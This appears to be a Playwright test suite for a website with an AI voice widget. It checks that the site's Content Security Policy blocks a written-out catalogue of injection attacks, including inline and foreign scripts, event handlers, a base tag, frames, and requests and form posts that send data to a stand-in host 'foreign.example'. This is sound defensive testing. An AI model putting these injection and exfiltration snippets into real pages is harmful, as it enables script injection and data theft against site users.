import type { Page } from '@playwright/test';
import { expect, openMicrophones, test, widgetIn } from './fixtures';
import { missingPath } from './pages';

declare global {
  interface Window {
    /** What ran that should not have. */
    ran: string[];
  }
}

const foreign = 'https://foreign.example';

/** What an attacker who may write into the page would try, each by itself; it leaves its name in `ran`. */
const attacks: Record<string, { directive: string; attack: () => void }> = {
  'an inline script': {
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.text = "window.ran.push('inline')";
      document.body.append(script);
    },
  },
  'an inline event handler': {
    directive: 'script-src-attr',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="ran.push(\'img\')">');
    },
  },
  'a javascript: link': {
    directive: 'script-src-elem',
    attack: () => {
      const link = document.createElement('a');
      link.href = "javascript:window.ran.push('link')";
      link.click();
    },
  },
  'text that is evaluated': {
    directive: 'script-src',
    attack: () => {
      // The console's own evaluation is exempt; a timer's is not.
      setTimeout("window.ran.push('eval')");
    },
  },
  'a script of another host': {
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.src = 'https://foreign.example/evil.js';
      document.body.append(script);
    },
  },
  'a script out of a blob': {
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob(["window.ran.push('blob')"]));
      document.body.append(script);
    },
  },
  'a script out of a data: address': {
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.src = "data:text/javascript,window.ran.push('data')";
      document.body.append(script);
    },
  },
  'an inline style': {
    directive: 'style-src-elem',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<style>main { display: none }</style>');
    },
  },
  'a base for addresses': {
    directive: 'base-uri',
    attack: () => {
      document.head.insertAdjacentHTML('afterbegin', '<base href="https://foreign.example/">');
    },
  },
  'a request to another host': {
    directive: 'connect-src',
    attack: () => {
      fetch('https://foreign.example/take', { method: 'POST', body: 'x' }).then(
        () => window.ran.push('fetch'),
        () => undefined,
      );
    },
  },
  'a picture of another host': {
    directive: 'img-src',
    attack: () => {
      new Image().src = 'https://foreign.example/take.png';
    },
  },
  'a frame': {
    directive: 'frame-src',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<iframe src="https://foreign.example/">');
    },
  },
  'a form that posts elsewhere': {
    directive: 'form-action',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<form action="https://foreign.example/">');
      document.forms[0]?.requestSubmit();
    },
  },
};

/** Stands for another host, and notes what reached it. */
async function watchForeignHost(page: Page): Promise<string[]> {
  const reached: string[] = [];
  await page.route(`${foreign}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: "window.ran.push('foreign')" });
  });
  return reached;
}

test('the browser refuses each thing that an attacker in the page would try', async ({
  page,
  violations,
}) => {
  test.slow();
  const reached = await watchForeignHost(page);
  await page.goto('/');
  await page.evaluate(() => (window.ran = []));
  for (const [title, { directive, attack }] of Object.entries(attacks)) {
    await test.step(title, async () => {
      await page.evaluate(attack);
      const isRefused = (violation: string) => violation.startsWith(`${directive} refused`);
      await expect.soft.poll(() => violations.some(isRefused), title).toBe(true);
      violations.length = 0;
      expect.soft(await page.evaluate(() => window.ran), title).toEqual([]);
      expect.soft(reached, title).toEqual([]);
      const isShown = () => document.querySelector('main')?.checkVisibility();
      expect.soft(await page.evaluate(isShown), title).toBe(true);
    });
  }
});

test('what is slipped into the HTML does not run, and the page works all the same', async ({
  page,
  violations,
}) => {
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const slipped =
      '<script>window.ran = ["slipped"]</script><b onclick="0" style="color:red">x</b>';
    const body = (await response.text()).replace('</body>', `${slipped}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/');
  await expect
    .poll(() => violations.map((violation) => violation.split(' ', 1)[0]))
    .toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'style-src-attr']));
  violations.length = 0;
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
  const { button, status } = widgetIn(page.getByRole('main'));
  await button.click();
  await expect(status).toHaveText('AI Speaking...');
});

for (const path of ['/', '/SunriseToyota', '/AI', '/privacy', missingPath]) {
  test(`every link of ${path} to another page leads on within the policies, there and back`, async ({
    page,
    pageErrors,
  }) => {
    await page.route('https://images.unsplash.com/**', (route) =>
      route.fulfill({
        contentType: 'image/svg+xml',
        body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
      }),
    );
    await page.goto(path);
    // One for each page: which of its anchors a link names makes no other request.
    const hrefs = await page.locator('a[href^="/"]:not([target])').evaluateAll((links) => {
      const byPage = links
        .map((link) => link.getAttribute('href') ?? '')
        .map((href) => [new URL(href, location.href).pathname, href] as const)
        .filter(([pathname]) => pathname !== location.pathname);
      return [...new Map(byPage).values()];
    });
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) {
      // A click of a link that may be in a shut menu.
      await page.locator(`a[href="${href}"]:not([target])`).first().dispatchEvent('click');
      await expect(page).toHaveURL(href);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await page.goBack();
      await expect(page).toHaveURL(path);
    }
    const notFound = /status of 404|no-such-page/;
    expect(pageErrors.list.filter((line) => !notFound.test(line))).toEqual([]);
  });
}

test('a whole call reaches no host but the own, breaks no policy, sets no cookie and stores nothing', async ({
  page,
  context,
  site,
  pageErrors,
}) => {
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol !== 'blob:' && url.origin !== site.url) elsewhere.push(request.url());
  });
  await page.goto('/SunriseToyota');
  const { button, status } = widgetIn(page.getByRole('main'));
  await button.click();
  await expect(status).toHaveText('AI Speaking...');
  await button.click();
  await expect(status).toHaveText('Click to speak');
  await expect.poll(() => openMicrophones(page)).toBe(0);
  expect(elsewhere).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(() => ({ ...localStorage, ...sessionStorage }))).toEqual({});
  expect(pageErrors.list).toEqual([]);
});
